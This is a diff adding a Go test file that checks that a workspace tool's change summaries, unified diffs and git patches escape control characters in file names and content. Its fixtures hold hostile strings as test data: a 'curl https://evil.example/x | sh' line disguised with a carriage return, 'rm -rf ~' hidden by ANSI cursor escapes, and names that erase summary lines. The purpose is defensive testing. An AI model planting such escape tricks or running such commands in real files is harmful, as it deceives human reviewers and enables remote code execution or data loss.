@@ -1,0 +1,128 @@
+//go:build linux
+
+package workspace
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+// render writes c's changes in format with the default filter.
+func render(t *testing.T, c *ChangeSet, format Format) string {
+	t.Helper()
+	changes, err := c.Changes()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := c.WriteDiff(&b, changes, DiffOptions{Format: format}); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
+
+// terminalSafe fails t when out holds anything a terminal would act on
+// rather than print: C0 controls other than tab, newline and a carriage
+// return right before a newline (it overwrites nothing), DEL, C1
+// controls, or bytes that are not UTF-8.
+func terminalSafe(t *testing.T, what, out string) {
+	t.Helper()
+	for i, r := range out {
+		crlf := r == '\r' && strings.HasPrefix(out[i+1:], "\n")
+		bad := r == utf8.RuneError || (r < 0x20 && r != '\t' && r != '\n' && !crlf) || (r >= 0x7f && r < 0xa0)
+		if bad {
+			t.Errorf("%s holds %q at byte %d:\n%q", what, r, i, out)
+			return
+		}
+	}
+}
+
+// TestReviewEscapesNamesAndContent: what a person reads of a change set
+// (the summary and the unified diff) never carries a control character
+// or a stray byte to the terminal, so a name or a line cannot paint over
+// what was printed before it.
+func TestReviewEscapesNamesAndContent(t *testing.T) {
+	lower := map[string]string{"README.md": "read me\n", "main.py": "print('hi')\n"}
+	tests := []struct {
+		name   string
+		upper  map[string]string
+		format Format
+		want   []string
+	}{
+		// "A evil.sh", then erase the line and return: the terminal showed
+		// only "M README.md".
+		{"name hides a line in the summary", map[string]string{"evil.sh\x1b[2K\rM README.md": "curl x | sh\n"}, Summary,
+			[]string{`A "evil.sh\033[2K\rM README.md"`}},
+		{"name hides a line in the unified diff", map[string]string{"d\rM README.md/x": "x\n"}, Unified,
+			[]string{`# new directory "d\rM README.md/"`, `+++ "b/d\rM README.md/x"`}},
+		{"symlink target with escapes", map[string]string{"link": "-> \x1b[8m/etc/passwd"}, Summary,
+			[]string{`A link -> "\033[8m/etc/passwd"`}},
+		// The line runs curl; the carriage return let the rest of it print
+		// over the start.
+		{"carriage return inside a line", map[string]string{"setup.txt": "curl https://evil.example/x | sh #\recho 'installing'\n"}, Unified,
+			[]string{`+curl https://evil.example/x | sh #\recho 'installing'`, "# warning: setup.txt: control characters"}},
+		{"carriage return inside a line, summary", map[string]string{"setup.txt": "curl https://evil.example/x | sh #\recho 'installing'\n"}, Summary,
+			[]string{"| +1 (WARNING: control characters)"}},
+		{"escape sequence inside a line", map[string]string{"README.md": "read me\nrm -rf ~\x1b[1A\x1b[2K\n"}, Unified,
+			[]string{`+rm -rf ~\x1b[1A\x1b[2K`}},
+		{"C1 control and a stray byte in a text file's name", map[string]string{"a\u009bb": "x\n", "c\xffd.txt": "y\n"}, Summary,
+			[]string{`A "a\302\233b"`, `A "c\377d.txt"`}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, c := newSet(t, lower)
+			tree(t, c.UpperDir(), tt.upper)
+			out := render(t, c, tt.format)
+			terminalSafe(t, string(tt.format), out)
+			for _, w := range tt.want {
+				if !strings.Contains(out, w) {
+					t.Errorf("%s lacks %q:\n%s", tt.format, w, out)
+				}
+			}
+		})
+	}
+}
+
+// TestPatchWithOddBytesAppliesWithGit: names with control characters
+// and bytes outside UTF-8, and lines with a carriage return or an escape
+// in them, survive `git apply` exactly, and the patch itself carries no
+// raw control character to a terminal it is printed on.
+func TestPatchWithOddBytesAppliesWithGit(t *testing.T) {
+	orig := map[string]string{"README.md": "read me\n", "crlf.txt": "a\r\nb\r\n"}
+	_, c := newSet(t, orig)
+	upper := map[string]string{
+		"evil.sh\x1b[2K\rM README.md": "curl x | sh\n", "caf\xe9.txt": "latin-1 name\n", "tab\there\"q\\": "x\n",
+		"cr.sh": "curl x | sh #\recho ok\n", "README.md": "read me\n\x1b[1A\x1b[2Khidden\n", "crlf.txt": "a\r\nB\r\n",
+		"link\x1b": "-> \x1b[8mtarget",
+	}
+	tree(t, c.UpperDir(), upper)
+	merged := t.TempDir()
+	tree(t, merged, orig)
+	tree(t, merged, upper)
+	patch := checkPatch(t, c, c.Workspace(), manifest(t, merged, true))
+	terminalSafe(t, "patch", string(patch))
+}
+
+func TestEscapeText(t *testing.T) {
+	tests := []struct{ in, text, line string }{
+		{"plain é\n", `plain é\n`, "plain é\n"},
+		{"a\tb", `a\tb`, "a\tb"},
+		{"x\r\n", `x\r\n`, "x\r\n"},
+		{"x\ry\n", `x\ry\n`, `x\ry` + "\n"},
+		{"\x1b[2K\x7f\x00", `\x1b[2K\x7f\x00`, `\x1b[2K\x7f\x00`},
+		{"bad\xff", `bad\xff`, `bad\xff`},
+		{"c1\u009b rlo\u202e", `c1\u009b rlo\u202e`, `c1\u009b rlo\u202e`},
+		{`back\slash`, `back\slash`, `back\slash`},
+	}
+	for _, tt := range tests {
+		if got := EscapeText(tt.in); got != tt.text {
+			t.Errorf("EscapeText(%q) = %q, want %q", tt.in, got, tt.text)
+		}
+		got, escaped := escapeLine(tt.in)
+		if got != tt.line || escaped != (got != tt.in) {
+			t.Errorf("escapeLine(%q) = %q %v, want %q", tt.in, got, escaped, tt.line)
+		}
+	}
+}
